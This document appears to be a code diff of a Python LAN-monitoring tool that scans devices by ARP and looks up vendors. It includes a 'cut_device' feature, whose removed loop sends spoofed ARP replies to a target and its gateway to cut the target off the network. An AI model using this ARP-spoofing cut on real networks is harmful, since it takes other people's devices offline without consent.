@@ -4,15 +4,27 @@ import subprocess
 import logging
 import time
 import socket
-import warnings
 import threading
-import queue 
 import os 
 import sys
+import csv
+import json
+import asyncio
+import ipaddress
+import select
+import struct
+import ctypes
+import functools
+import heapq
+import re
 import requests
+from urllib3.util.retry import Retry
+from collections import Counter
+from concurrent.futures import ThreadPoolExecutor, wait
 from dataclasses import dataclass
-from typing import List, Dict, Optional, Tuple
+from typing import List, Dict, Optional, Set, Tuple
 from datetime import datetime
+from .linux import PROC_NET_ARP, _read_linux_default_route, _iter_linux_arp_table, _read_linux_arp_entry
 
 # Setup early logging
 logger = logging.getLogger(__name__)
@@ -21,10 +33,8 @@ logger = logging.getLogger(__name__)
 _platform_modules_imported = False
 try:
     if platform.system() == "Windows":
-        from .npcap_helper import initialize_npcap, verify_npcap_installation
+        from .npcap_helper import initialize_npcap
         from .windows import WindowsNetworkMonitor
-        import ctypes
-        import winreg
         _platform_modules_imported = True
     elif platform.system() == "Darwin":  # macOS
         try:
@@ -43,22 +53,360 @@ try:
         logger.warning("No platform-specific modules could be imported. Using generic implementations.")
         
 except Exception as e:
-    logger.error(f"Error importing platform-specific modules: {e}")
+    logger.error("Error importing platform-specific modules: %s", e)
     logger.warning("Using generic implementations for network monitoring")
 
-# Import Scapy modules after Npcap setup
+# Import Scapy modules after Npcap setup. Only the modules used here are
+# imported: scapy.all loads every protocol layer and dominates startup time
 try:
-    from scapy.all import ARP, Ether, srp, send
-    try:
-        from scapy.arch import get_if_hwaddr
-        from scapy.layers.l2 import arping
-        from scapy.sendrecv import srloop
-    except ImportError as e:
-        logger.error(f"Failed to import Scapy modules: {e}")
+    from scapy.config import conf
+    from scapy.arch import get_if_hwaddr
+    from scapy.layers.l2 import ARP, Ether
+    from scapy.sendrecv import srp
 except ImportError:
     logger.error("Failed to import Scapy. Some features will not be available.")
 
-@dataclass
+# How long enumerated network interfaces are reused before querying the OS again
+INTERFACE_CACHE_TTL = 30
+
+# Monitoring loop interval: back off from the minimum to the maximum while
+# MONITOR_STABLE_SCANS consecutive scans see the same devices
+MONITOR_MIN_INTERVAL = 5
+MONITOR_MAX_INTERVAL = 60
+MONITOR_STABLE_SCANS = 3
+# Per-device speeds are sampled on their own, much cheaper, cadence
+SPEED_UPDATE_INTERVAL = 2
+
+# How long the gateway IP/MAC is reused before looking it up again
+GATEWAY_CACHE_TTL = 300
+
+# How often protection/cut ARP replies are re-sent
+ARP_REFRESH_INTERVAL = 1
+# Pause between the frames of one burst, for switches that drop back-to-back
+# frames; 0 sends them back to back
+ARP_FRAME_GAP = 0
+
+# Devices missing from scans for this many seconds are marked inactive
+DEVICE_INACTIVE_AFTER = 120
+# Devices unseen for this many seconds are forgotten, checked once every
+# DEVICE_EXPIRY_CHECK_INTERVAL scans
+DEVICE_EXPIRY_AFTER = 3600
+DEVICE_EXPIRY_CHECK_INTERVAL = 60
+
+# How long a WiFi signal snapshot is reused across devices
+WLAN_SNAPSHOT_TTL = 5
+
+# Hostname/vendor lookup caching: (max entries, TTL) and a shorter TTL for failed lookups
+HOSTNAME_CACHE_SIZE, HOSTNAME_CACHE_TTL = 4096, 3600
+VENDOR_CACHE_SIZE, VENDOR_CACHE_TTL = 65536, 86400
+NEGATIVE_CACHE_TTL = 60
+# Distinct (hostname, vendor) pairs whose device type is remembered
+DEVICE_TYPE_CACHE_SIZE = 4096
+# How long a scan waits for reverse DNS before registering devices without a hostname
+HOSTNAME_LOOKUP_TIMEOUT = 0.5
+HOSTNAME_LOOKUP_WORKERS = 32
+# Upper bound on threads enriching the new devices of one scan
+ENRICHMENT_MAX_WORKERS = 64
+
+# Precompiled parsers for command output
+IPV4_PATTERN = re.compile(
+    r'^(?:(?:25[0-5]|2[0-4][0-9]|[01]?[0-9][0-9]?)\.){3}(?:25[0-5]|2[0-4][0-9]|[01]?[0-9][0-9]?)$'
+)
+# ipconfig: a wireless adapter header and its indented block
+IPCONFIG_WIRELESS_BLOCK = re.compile(r'^Wireless LAN adapter (.+?):\s*$(.*?)(?=^\S|\Z)', re.M | re.S)
+# arp -a (Windows): "  192.168.1.1     aa-bb-cc-dd-ee-ff     dynamic"; the type
+# column is localized, so entries are matched on address and MAC alone
+WINDOWS_ARP_ENTRY = re.compile(r'^\s*(\d{1,3}(?:\.\d{1,3}){3})\s+((?:[0-9A-Fa-f]{2}-){5}[0-9A-Fa-f]{2})\s', re.M)
+# route print 0.0.0.0: the gateway column of the default route
+WINDOWS_DEFAULT_ROUTE = re.compile(r'^\s*0\.0\.0\.0\s+0\.0\.0\.0\s+(\d{1,3}(?:\.\d{1,3}){3})', re.M)
+# route get default (macOS)
+DARWIN_ROUTE_INTERFACE = re.compile(r'^\s*interface:\s*(\S+)', re.M)
+DARWIN_ROUTE_GATEWAY = re.compile(r'^\s*gateway:\s*(\S+)', re.M)
+# arp -n (macOS) drops leading zeros: "? (192.168.1.1) at 2:fc:0:0:0:5 on en0"
+DARWIN_ARP_MAC = re.compile(r'\bat ((?:[0-9A-Fa-f]{1,2}:){5}[0-9A-Fa-f]{1,2})\b')
+
+# ARP scans are split into chunks of this prefix length and run in parallel
+ARP_SCAN_CHUNK_PREFIX = 26
+ARP_SCAN_MAX_WORKERS = 16
+ARP_SCAN_TIMEOUT = 1.5
+ETH_P_ARP = 0x0806
+# EtherType and ARP opcode, read from byte 12 of a frame
+ARP_FRAME_HEADER = struct.Struct('!H6xH')
+# Ethernet header plus an IPv4-over-Ethernet ARP reply: dst, src, EtherType,
+# fixed preamble (hw/proto type and sizes, opcode 2), sender MAC/IP, target MAC/IP
+ARP_REPLY_FRAME = struct.Struct('!6s6sH8s6s4s6s4s')
+ARP_REPLY_PREAMBLE = b'\x00\x01\x08\x00\x06\x04\x00\x02'
+# Classic BPF program for the raw scan socket: accept only ARP replies (opcode
+# at byte 20), so our own echoed requests and other hosts' who-has frames never
+# wake the reader. Each instruction is a struct sock_filter (code, jt, jf, k).
+SO_ATTACH_FILTER = 26
+ARP_REPLY_BPF = b''.join(struct.pack('HBBI', *instruction) for instruction in (
+    (0x28, 0, 0, 20),       # ldh [20]
+    (0x15, 0, 1, 2),        # jeq #2, accept, drop
+    (0x06, 0, 0, 0xFFFF),   # ret #65535
+    (0x06, 0, 0, 0),        # ret #0
+))
+# Networks wider than this are scanned as the /24 around the local address
+ARP_SCAN_MIN_PREFIX = 22
+
+# Optional asynchronous DNS resolver for bulk PTR lookups
+try:
+    import aiodns
+except ImportError:
+    aiodns = None
+
+# Optional Aho-Corasick automaton for device type classification
+try:
+    import ahocorasick
+except ImportError:
+    ahocorasick = None
+
+# Hostname/vendor keywords for each device type, in priority order
+DEVICE_TYPE_PATTERNS = {
+    "smartphone": ["iphone", "android", "phone", "samsung", "huawei", "xiaomi"],
+    "laptop": ["laptop", "macbook", "notebook", "dell", "lenovo", "hp", "asus"],
+    "tablet": ["ipad", "tablet", "kindle"],
+    "smart tv": ["tv", "roku", "firestick", "chromecast", "samsung tv", "lg tv"],
+    "gaming": ["playstation", "xbox", "nintendo", "ps4", "ps5"],
+    "iot": ["camera", "thermostat", "doorbell", "nest", "ring", "echo", "alexa"],
+    "desktop": ["desktop", "pc", "imac", "workstation"]
+}
+
+
+def _build_device_type_keywords():
+    """Map every keyword to (priority, device type display name), in priority order"""
+    keywords = {}
+    for priority, (device_type, words) in enumerate(DEVICE_TYPE_PATTERNS.items()):
+        for word in words:
+            # Keep the highest priority category for keywords listed twice
+            keywords.setdefault(word, (priority, device_type.title()))
+    return keywords
+
+DEVICE_TYPE_KEYWORDS = _build_device_type_keywords()
+
+# Used when pyahocorasick is missing. The lookahead reports a keyword at every
+# position, so keywords overlapping each other are all seen, and the keywords
+# are in priority order so the one reported at a position is its best match.
+DEVICE_TYPE_REGEX = re.compile(f"(?=({'|'.join(map(re.escape, DEVICE_TYPE_KEYWORDS))}))")
+
+def _build_device_type_automaton():
+    """Build an automaton mapping every keyword to (priority, device type display name)"""
+    if ahocorasick is None:
+        return None
+    automaton = ahocorasick.Automaton()
+    for keyword, value in DEVICE_TYPE_KEYWORDS.items():
+        automaton.add_word(keyword, value)
+    automaton.make_automaton()
+    return automaton
+
+# The keywords are fixed, so every controller shares one automaton
+DEVICE_TYPE_AUTOMATON = _build_device_type_automaton()
+
+# Common vendor OUI prefixes, keyed by the 24-bit OUI
+_OUI_VENDORS: Dict[int, str] = {
+    0xAABBCC: 'Apple, Inc.',
+    0x00155D: 'Microsoft Corporation',
+    0x001A2B: 'Apple, Inc.',
+    0x3C5AB4: 'Google, Inc.',
+    0xB827EB: 'Raspberry Pi Foundation',
+    0xDC44B6: 'TP-Link Technologies',
+    0xE0D55E: 'LITEON Technology',
+    0x001E8C: 'ASUSTek Computer',
+    0x5C497D: 'Huawei Technologies',
+    0x8C8590: 'Apple, Inc.',
+    0xF0B429: 'Samsung Electronics',
+    0x00248C: 'Cisco Systems',
+    0x0024D4: 'Dell Inc.',
+    0x00264D: 'Dell Inc.',
+    0xEC1A59: 'Hewlett Packard',
+    0xF4F951: 'Xiaomi Communications',
+    0x98FAE3: 'Intel Corporate',
+    0x7CE32E: 'Sonos, Inc.',
+    0x001377: 'Samsung Electronics',
+    0x0017FA: 'Microsoft Corporation',
+}
+
+# (connect, read) timeout for online vendor lookups
+VENDOR_LOOKUP_TIMEOUT = (1.0, 1.0)
+# Seconds online vendor lookups are skipped after the API rate limits us,
+# unless it sends a Retry-After
+VENDOR_RATE_LIMIT_BACKOFF = 60
+
+# Optional copies of the IEEE MA-L registry, bundled or downloaded with `networkmonitor update-oui`
+IEEE_OUI_URL = 'https://standards-oui.ieee.org/oui/oui.csv'
+OUI_CSV_PATH = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'oui.csv')
+DATA_DIR = os.path.join(os.path.expanduser('~'), '.networkmonitor')
+USER_OUI_CSV_PATH = os.path.join(DATA_DIR, 'oui.csv')
+# The downloaded registry is refreshed in the background once it is this old (seconds)
+OUI_REFRESH_AGE = 7 * 86400
+# Vendor lookups persisted across runs
+VENDOR_CACHE_PATH = os.path.join(DATA_DIR, 'ouicache.json')
+
+
+def _oui_key(mac: str) -> int:
+    """Return the 24-bit OUI of a MAC address (colon, dash, dot or bare hex) as an int"""
+    return int(mac.replace(':', '').replace('-', '').replace('.', '')[:6], 16)
+
+
+def _mac_bytes(mac: str) -> bytes:
+    """Return the 6 raw bytes of a MAC address (colon, dash, dot or bare hex)"""
+    return bytes.fromhex(mac.replace(':', '').replace('-', '').replace('.', ''))
+
+
+@functools.lru_cache(maxsize=None)
+def _load_oui_table(*paths: str) -> Dict[int, str]:
+    """Load the OUI vendor table once, merging the IEEE registry copies that exist"""
+    table = dict(_OUI_VENDORS)
+    for path in paths or (OUI_CSV_PATH, USER_OUI_CSV_PATH):
+        if not os.path.exists(path):
+            continue
+        
+        try:
+            with open(path, newline='', encoding='utf-8') as f:
+                reader = csv.reader(f)
+                next(reader, None)  # Skip header
+                for row in reader:
+                    if len(row) >= 3:
+                        try:
+                            table[int(row[1], 16)] = row[2].strip()
+                        except ValueError:
+                            continue
+            logger.info("Loaded %s OUI vendor entries from %s", len(table), path)
+        except Exception as e:
+            logger.error("Error loading OUI table from %s: %s", path, e)
+    return table
+
+
+def download_oui_table(path: str = USER_OUI_CSV_PATH) -> bool:
+    """Download the IEEE OUI registry so vendor lookups no longer need the network"""
+    try:
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        response = requests.get(IEEE_OUI_URL, timeout=30)
+        response.raise_for_status()
+        
+        temp_path = f"{path}.tmp"
+        with open(temp_path, 'wb') as f:
+            f.write(response.content)
+        os.replace(temp_path, path)
+        
+        _load_oui_table.cache_clear()
+        logger.info("Downloaded OUI registry to %s", path)
+        return True
+    except Exception as e:
+        logger.error("Error downloading OUI registry: %s", e)
+        return False
+
+
+def _parse_windows_arp(output: str) -> List[Tuple[str, str]]:
+    """(ip, MAC) pairs of Windows arp -a output in one regex pass, without incomplete/broadcast/multicast entries"""
+    entries = []
+    for ip, mac in WINDOWS_ARP_ENTRY.findall(output):
+        if ip == "0.0.0.0" or mac == "00-00-00-00-00-00":
+            continue
+        mac = mac.replace('-', ':').upper()
+        # Bit 0 of the first octet marks broadcast and multicast MACs
+        if not int(mac[:2], 16) & 1:
+            entries.append((ip, mac))
+    return entries
+
+
+def _attach_arp_reply_filter(sock: socket.socket):
+    """Have the kernel drop everything but ARP replies on a raw socket (Linux)"""
+    program = ctypes.create_string_buffer(ARP_REPLY_BPF)
+    # struct sock_fprog: instruction count and a pointer to the instructions
+    fprog = struct.pack('HP', len(ARP_REPLY_BPF) // 8, ctypes.addressof(program))
+    try:
+        sock.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, fprog)
+    except OSError as e:
+        # The reader checks the opcode itself, so an unfiltered socket still works
+        logger.debug("Could not attach ARP filter: %s", e)
+
+
+def _oui_table_is_stale(path: str = USER_OUI_CSV_PATH) -> bool:
+    """Whether the downloaded IEEE registry is missing or older than OUI_REFRESH_AGE"""
+    try:
+        return time.time() - os.path.getmtime(path) > OUI_REFRESH_AGE
+    except OSError:
+        return True
+
+
+def _interface_addresses(interfaces: List[Dict]) -> Set[Tuple[str, str]]:
+    """(name, IP) pairs of an interface list, for spotting address changes"""
+    return {(iface.get('name'), iface.get('ip')) for iface in interfaces}
+
+
+@functools.lru_cache(maxsize=None)
+def _vendor_session() -> requests.Session:
+    """Session with a connection pool so vendor lookups reuse TLS connections,
+    created on the first online lookup rather than at import"""
+    session = requests.Session()
+    session.mount("https://", requests.adapters.HTTPAdapter(
+        pool_connections=1,
+        pool_maxsize=32,
+        max_retries=Retry(total=1, backoff_factor=0.1)
+    ))
+    return session
+
+
+def _lookup_vendor_online(oui: str) -> Optional[str]:
+    """Look up an OUI with the macvendors.com API (results are cached by the caller)"""
+    response = _vendor_session().get(f"https://api.macvendors.com/{oui}", timeout=VENDOR_LOOKUP_TIMEOUT)
+    if response.status_code == 200:
+        return response.text.strip()
+    if response.status_code == 404:
+        return None
+    response.raise_for_status()
+    return None
+
+
+class TTLCache:
+    """Thread-safe dict cache whose entries expire, with a shorter TTL for None"""
+    
+    MISSING = object()
+    
+    def __init__(self, maxsize: int, ttl: float, negative_ttl: float = NEGATIVE_CACHE_TTL):
+        self.maxsize = maxsize
+        self.ttl = ttl
+        self.negative_ttl = negative_ttl
+        self._data = {}
+        self._lock = threading.Lock()
+    
+    def get(self, key):
+        """Get a cached value, or TTLCache.MISSING if absent or expired"""
+        with self._lock:
+            entry = self._data.get(key)
+            if entry is None:
+                return self.MISSING
+            expires, value = entry
+            if expires < time.monotonic():
+                del self._data[key]
+                return self.MISSING
+            return value
+    
+    def set(self, key, value):
+        """Cache a value, evicting the oldest entry when full"""
+        ttl = self.ttl if value is not None else self.negative_ttl
+        with self._lock:
+            self._data.pop(key, None)
+            if len(self._data) >= self.maxsize:
+                del self._data[next(iter(self._data))]
+            self._data[key] = (time.monotonic() + ttl, value)
+    
+    def items(self) -> List[Tuple]:
+        """Get the (key, value) pairs that have not expired"""
+        now = time.monotonic()
+        with self._lock:
+            return [(key, value) for key, (expires, value) in self._data.items() if expires >= now]
+    
+    def __len__(self):
+        return len(self._data)
+
+
+# dataclass(slots=True) needs Python 3.10+
+DATACLASS_SLOTS = {'slots': True} if sys.version_info >= (3, 10) else {}
+
+
+@dataclass(eq=False, **DATACLASS_SLOTS)
 class Device:
     ip: str
     mac: str
@@ -70,180 +418,219 @@ class Device:
     status: str = "active"
     speed_limit: Optional[float] = None
     current_speed: float = 0.0
-    last_seen: datetime = None
+    # time.monotonic() of the last scan that saw the device
+    last_seen_epoch: Optional[float] = None
     is_protected: bool = False
     is_blocked: bool = False
     attack_status: str = "none"  # none, scanning, cutting
 
     def __post_init__(self):
-        if self.last_seen is None:
-            self.last_seen = datetime.now()
+        if self.last_seen_epoch is None:
+            self.last_seen_epoch = time.monotonic()
+
+    @property
+    def last_seen(self) -> datetime:
+        """Wall-clock time of last_seen_epoch, for display and the API"""
+        return self.last_seen_at(time.time() - time.monotonic())
+
+    def last_seen_at(self, clock_offset: float) -> datetime:
+        """last_seen for a time.time() - time.monotonic() offset taken once for a whole listing"""
+        return datetime.fromtimestamp(clock_offset + self.last_seen_epoch)
 
 
 class NetworkController:
-    def __init__(self):
+    def __init__(self, monitor_interval: float = MONITOR_MIN_INTERVAL):
         self.os_type = platform.system()
+        # Replaced on change and never mutated, so API threads can iterate it without a lock
         self.devices: Dict[str, Device] = {}
-        self.mac_vendor_cache: Dict[str, str] = {}
-        self.setup_logging()
+        # Held by scans while they publish into devices and _active_ips; an API-triggered
+        # scan can run alongside the monitoring loop's, and readers never need it
+        self._devices_lock = threading.Lock()
+        self.mac_vendor_cache = TTLCache(VENDOR_CACHE_SIZE, VENDOR_CACHE_TTL)
+        # time.monotonic() before which macvendors.com is not queried, see VENDOR_RATE_LIMIT_BACKOFF
+        self._vendor_api_retry_at = 0.0
+        self.hostname_cache = TTLCache(HOSTNAME_CACHE_SIZE, HOSTNAME_CACHE_TTL)
+        # Outlives each scan so slow lookups can finish into hostname_cache
+        self._lookup_pool = ThreadPoolExecutor(max_workers=HOSTNAME_LOOKUP_WORKERS, thread_name_prefix="hostname")
+        self._oui_table = _load_oui_table()
+        self._load_vendor_cache()
+        self._device_type_automaton = DEVICE_TYPE_AUTOMATON
+        # Many devices share a vendor and no hostname, so classify each pair once
+        self._classify_device = functools.lru_cache(maxsize=DEVICE_TYPE_CACHE_SIZE)(self._match_device_type)
         self._stop_event = threading.Event()
         self.monitoring_thread = None
-        self.attack_threads: Dict[str, threading.Thread] = {}
-        self.protected_devices: List[str] = []
-        self._gateway_mac = None
-        self._gateway_ip = None
+        self.speed_thread = None
+        self.oui_thread = None
+        # ARP frames re-sent every ARP_REFRESH_INTERVAL, keyed by ("protect" | "cut", ip)
+        self._arp_jobs: Dict[Tuple[str, str], List[bytes]] = {}
+        # Heap of (next_send, key) plus the live deadline per job, stale heap entries are skipped
+        self._arp_schedule: List[Tuple[float, Tuple[str, str]]] = []
+        self._arp_due: Dict[Tuple[str, str], float] = {}
+        self._arp_jobs_lock = threading.Lock()
+        self._arp_wakeup = threading.Condition(self._arp_jobs_lock)
+        self._arp_scheduler: Optional[threading.Thread] = None
+        self._l2socket = None
+        self._l2socket_lock = threading.Lock()
+        self.protected_devices: Set[str] = set()
+        # (gateway IP, gateway MAC, monotonic expiry)
+        self._gateway_cache: Optional[Tuple[str, str, float]] = None
+        self._iface_cache: Tuple[float, List[Dict]] = (0.0, [])
+        self._wifi_iface_cache: Tuple[float, List[str]] = (0.0, [])
+        self._default_iface: Optional[str] = None
+        self._local_mac: Optional[str] = None
+        self._wlan_snapshot: Tuple[float, Dict[str, int]] = (0.0, {})
+        self._scan_id = 0
+        # Bumped whenever device counts may have changed; (generation, counts)
+        self._summary_generation = 0
+        self._summary_cache: Tuple[int, Optional[Dict]] = (0, None)
+        self._active_ips = set()
+        # (network, netmask) ints of the subnet last scanned, see _get_scan_network
+        self._local_network: Optional[Tuple[int, int]] = None
+        # Minimum scan interval; the monitoring loop backs off from it on a stable network
+        self.monitor_interval = monitor_interval
         
         # Initialize platform-specific monitors
         self.platform_monitor = None
         
         if self.os_type == "Windows":
-            # Setup Windows command paths
+            # Setup Windows command paths, resolved once so no call searches PATH
             system32 = os.path.join(os.environ['SystemRoot'], 'System32')
             self.ipconfig_path = os.path.join(system32, "ipconfig.exe")
             self.netsh_path = os.path.join(system32, "netsh.exe")
             self.arp_path = os.path.join(system32, "arp.exe")
             self.ping_path = os.path.join(system32, "ping.exe")
+            self.route_path = os.path.join(system32, "route.exe")
+            self.nbtstat_path = os.path.join(system32, "nbtstat.exe")
             
             try:
                 self.platform_monitor = WindowsNetworkMonitor()
-                logging.info("Windows network monitor initialized")
+                logger.info("Windows network monitor initialized")
                 
                 if not initialize_npcap():
-                    logging.warning("Npcap initialization failed, network monitoring may not work")
+                    logger.warning("Npcap initialization failed, network monitoring may not work")
                 else:
-                    logging.info("Npcap initialized successfully")
+                    logger.info("Npcap initialized successfully")
             except Exception as e:
-                logging.error(f"Failed to initialize Windows network monitor: {e}")
+                logger.error("Failed to initialize Windows network monitor: %s", e)
                 self.platform_monitor = None
                 
         elif self.os_type == "Darwin":  # macOS
             try:
                 self.platform_monitor = MacOSNetworkMonitor()
-                logging.info("macOS network monitor initialized")
+                logger.info("macOS network monitor initialized")
             except Exception as e:
-                logging.error(f"Failed to initialize macOS network monitor: {e}")
+                logger.error("Failed to initialize macOS network monitor: %s", e)
                 self.platform_monitor = None
                 
         elif self.os_type == "Linux":  # Linux/Ubuntu
             try:
                 self.platform_monitor = LinuxNetworkMonitor()
-                logging.info("Linux network monitor initialized")
+                logger.info("Linux network monitor initialized")
             except Exception as e:
-                logging.error(f"Failed to initialize Linux network monitor: {e}")
+                logger.error("Failed to initialize Linux network monitor: %s", e)
                 self.platform_monitor = None
                 
-        # Initialize measurement variables
-        self.last_measurement_time = time.time()
-        self.last_bytes_total = 0
-
-    def _get_windows_command_path(self, command):
-        system32 = os.path.join(os.environ['SystemRoot'], 'System32')
-        return os.path.join(system32, f"{command}.exe")
-
-    def setup_logging(self):
-        logging.basicConfig(
-            level=logging.DEBUG,  # Changed from INFO to DEBUG
-            format='%(asctime)s - %(levelname)s - %(message)s',
-            handlers=[
-                logging.FileHandler('networkmonitor.log'),
-                logging.StreamHandler()
-            ]
-        )   
-    
+        # Initialize measurement variables: (timestamp, bytes sent+received per NIC)
+        self._last_io: Optional[Tuple[float, Dict[str, int]]] = None
+        self.total_bandwidth = 0.0
+
     def _get_gateway_info(self) -> Tuple[str, str]:
-        if self._gateway_ip and self._gateway_mac:
-            return self._gateway_ip, self._gateway_mac
-            
+        """Get the gateway IP and MAC (cached for GATEWAY_CACHE_TTL seconds)"""
+        cache = self._gateway_cache
+        if cache and time.monotonic() < cache[2]:
+            return cache[0], cache[1]
+        
+        gateway_ip, gateway_mac = self._query_gateway_info()
+        if gateway_ip and gateway_mac:
+            self._gateway_cache = (gateway_ip, gateway_mac, time.monotonic() + GATEWAY_CACHE_TTL)
+        return gateway_ip, gateway_mac
+
+    def _query_gateway_info(self) -> Tuple[Optional[str], Optional[str]]:
+        """Look up the gateway IP and MAC from the OS"""
+        gateway_ip = gateway_mac = None
         try:
-            if self.os_type == "Windows":
+            if self.os_type == "Windows" and self.platform_monitor and hasattr(self.platform_monitor, 'get_default_gateway'):
+                # IP Helper API calls, no route/arp processes to launch and parse
+                gateway_ip, _ = self.platform_monitor.get_default_gateway()
+                if gateway_ip:
+                    gateway_mac = self.platform_monitor.resolve_mac(gateway_ip)
+            
+            elif self.os_type == "Windows":
                 # Get default route information using 'route print'
-                route_cmd = subprocess.run(['route', 'print', '0.0.0.0'], 
+                route_cmd = subprocess.run([self.route_path, 'print', '0.0.0.0'], 
                                        capture_output=True, 
                                        text=True,
                                        creationflags=subprocess.CREATE_NO_WINDOW)
                 
-                for line in route_cmd.stdout.splitlines():
-                    if '0.0.0.0' in line and 'On-link' not in line:
-                        parts = line.split()
-                        if len(parts) >= 4:
-                            self._gateway_ip = parts[2]
-                            break
+                route_match = WINDOWS_DEFAULT_ROUTE.search(route_cmd.stdout)
+                if route_match:
+                    gateway_ip = route_match.group(1)
                 
                 # Get gateway MAC using ARP
-                if self._gateway_ip:
+                if gateway_ip:
                     arp_output = subprocess.check_output(
                         [self.arp_path, "-a"], 
                         text=True,
                         creationflags=subprocess.CREATE_NO_WINDOW
                     )
-                    for line in arp_output.splitlines():
-                        if self._gateway_ip in line:
-                            parts = line.split()
-                            if len(parts) >= 2:
-                                self._gateway_mac = parts[1].replace('-', ':').upper()
-                                break
+                    gateway_mac = dict(_parse_windows_arp(arp_output)).get(gateway_ip)
                             
             elif self.os_type == "Linux":
-                # Get gateway IP from ip route
-                route_output = subprocess.check_output(['ip', 'route'], text=True)
-                for line in route_output.splitlines():
-                    if line.startswith('default'):
-                        parts = line.split()
-                        if 'via' in parts:
-                            via_idx = parts.index('via')
-                            if via_idx + 1 < len(parts):
-                                self._gateway_ip = parts[via_idx + 1]
-                                break
+                # Read the default route straight from the kernel
+                _, gateway_ip = _read_linux_default_route()
                 
-                # Get gateway MAC from arp
-                if self._gateway_ip:
-                    arp_output = subprocess.check_output(['arp', '-n', self._gateway_ip], text=True)
-                    for line in arp_output.splitlines():
-                        if self._gateway_ip in line:
-                            parts = line.split()
-                            for part in parts:
-                                if ':' in part and len(part) == 17:
-                                    self._gateway_mac = part.upper()
-                                    break
+                # Get gateway MAC from the kernel neighbour table
+                if gateway_ip:
+                    gateway_mac = _read_linux_arp_entry(gateway_ip)
                             
             elif self.os_type == "Darwin":
-                # macOS gateway detection
-                route_output = subprocess.check_output(['route', 'get', 'default'], text=True)
-                for line in route_output.splitlines():
-                    if 'gateway:' in line:
-                        self._gateway_ip = line.split(':')[1].strip()
-                        break
+                # macOS gateway detection; -n keeps route from reverse resolving the gateway
+                route_output = subprocess.check_output(['route', '-n', 'get', 'default'], text=True)
+                gateway_match = DARWIN_ROUTE_GATEWAY.search(route_output)
+                if gateway_match:
+                    gateway_ip = gateway_match.group(1)
+                # The same output names the default interface, save looking it up again
+                interface_match = DARWIN_ROUTE_INTERFACE.search(route_output)
+                if interface_match and self._default_iface is None:
+                    self._default_iface = interface_match.group(1)
                 
                 # Get gateway MAC from arp
-                if self._gateway_ip:
-                    arp_output = subprocess.check_output(['arp', '-n', self._gateway_ip], text=True)
-                    for line in arp_output.splitlines():
-                        if self._gateway_ip in line:
-                            parts = line.split()
-                            for part in parts:
-                                if ':' in part and len(part) == 17:
-                                    self._gateway_mac = part.upper()
-                                    break
+                if gateway_ip:
+                    arp_output = subprocess.check_output(['arp', '-n', gateway_ip], text=True)
+                    mac_match = DARWIN_ARP_MAC.search(arp_output)
+                    if mac_match:
+                        gateway_mac = ':'.join(octet.zfill(2) for octet in mac_match.group(1).split(':')).upper()
 
         except Exception as e:
-            logging.error(f"Error getting gateway info: {e}")
+            logger.error("Error getting gateway info: %s", e)
             return None, None
             
-        return self._gateway_ip, self._gateway_mac
+        return gateway_ip, gateway_mac
 
     def protect_device(self, ip: str) -> bool:
         """Enable protection for a device"""
         try:
             device = self.devices.get(ip)
+            if device and self._has_arp_job(("protect", ip)):
+                # Already protected, don't rebuild the job or look up the gateway again
+                return True
             if device:
+                # A running cut would keep poisoning the entries protection restores
+                if device.attack_status == "cutting":
+                    self.stop_cut(ip)
+                # Start ARP spoofing protection, the device isn't protected without it
+                if not self._start_protection(ip, device.mac):
+                    return False
                 device.is_protected = True
-                self.protected_devices.append(ip)
-                # Start ARP spoofing protection
-                self._start_protection(ip, device.mac)
+                self.protected_devices.add(ip)
+                # The device's and gateway's caches need the refresh above, but
+                # this host's own entry can simply be made static
+                if self.platform_monitor and hasattr(self.platform_monitor, 'pin_neighbor'):
+                    self.platform_monitor.pin_neighbor(ip, device.mac)
                 return True
             return False
         except Exception as e:
-            logging.error(f"Error protecting device: {e}")
+            logger.error("Error protecting device: %s", e)
             return False
 
     def unprotect_device(self, ip: str) -> bool:
@@ -252,35 +639,29 @@ class NetworkController:
             device = self.devices.get(ip)
             if device:
                 device.is_protected = False
-                if ip in self.protected_devices:
-                    self.protected_devices.remove(ip)
+                self.protected_devices.discard(ip)
+                self._remove_arp_job(("protect", ip))
+                if self.platform_monitor and hasattr(self.platform_monitor, 'unpin_neighbor'):
+                    self.platform_monitor.unpin_neighbor(ip)
                 return True
             return False
         except Exception as e:
-            logging.error(f"Error unprotecting device: {e}")
+            logger.error("Error unprotecting device: %s", e)
             return False
 
-    def _start_protection(self, ip: str, mac: str):
-        """Start ARP spoofing protection for a device"""
-        def protection_loop():
-            try:
-                gateway_ip, gateway_mac = self._get_gateway_info()
-                if not gateway_ip or not gateway_mac:
-                    return
-                
-                # Send gratuitous ARP responses to maintain correct ARP tables
-                while ip in self.protected_devices:
-                    # Send ARP to device with correct gateway info
-                    self._send_arp(ip, mac, gateway_ip, gateway_mac)
-                    # Send ARP to gateway with correct device info
-                    self._send_arp(gateway_ip, gateway_mac, ip, mac)
-                    time.sleep(1)
-            except Exception as e:
-                logging.error(f"Error in protection loop: {e}")
-
-        thread = threading.Thread(target=protection_loop)
-        thread.daemon = True
-        thread.start()
+    def _start_protection(self, ip: str, mac: str) -> bool:
+        """Start ARP spoofing protection for a device, False if it couldn't be started"""
+        gateway_ip, gateway_mac = self._get_gateway_info()
+        if not gateway_ip or not gateway_mac:
+            logger.error("Cannot protect %s: gateway unknown", ip)
+            return False
+        
+        # Keep re-sending the correct ARP entries to the device and the gateway
+        self._add_arp_job(("protect", ip), [
+            self._arp_frame(ip, mac, gateway_ip, gateway_mac),
+            self._arp_frame(gateway_ip, gateway_mac, ip, mac),
+        ])
+        return True
 
     def cut_device(self, ip: str) -> bool:
         """Cut network access for a device using ARP spoofing"""
@@ -288,42 +669,25 @@ class NetworkController:
             device = self.devices.get(ip)
             if not device or device.is_protected:
                 return False
+            if self._has_arp_job(("cut", ip)):
+                return True
 
-            device.attack_status = "cutting"
+            gateway_ip, gateway_mac = self._get_gateway_info()
+            if not gateway_ip or not gateway_mac:
+                return False
             
-            def attack_loop():
-                try:
-                    gateway_ip, gateway_mac = self._get_gateway_info()
-                    if not gateway_ip or not gateway_mac:
-                        return
-                        
-                    # Get our interface MAC
-                    iface = self.get_default_interface()
-                    our_mac = get_if_hwaddr(iface)
-                    
-                    while device.attack_status == "cutting":
-                        # Send spoofed ARP to target
-                        self._send_arp(ip, device.mac, gateway_ip, our_mac)
-                        # Send spoofed ARP to gateway
-                        self._send_arp(gateway_ip, gateway_mac, ip, our_mac)
-                        time.sleep(1)
-                        
-                except Exception as e:
-                    logging.error(f"Error in attack loop: {e}")
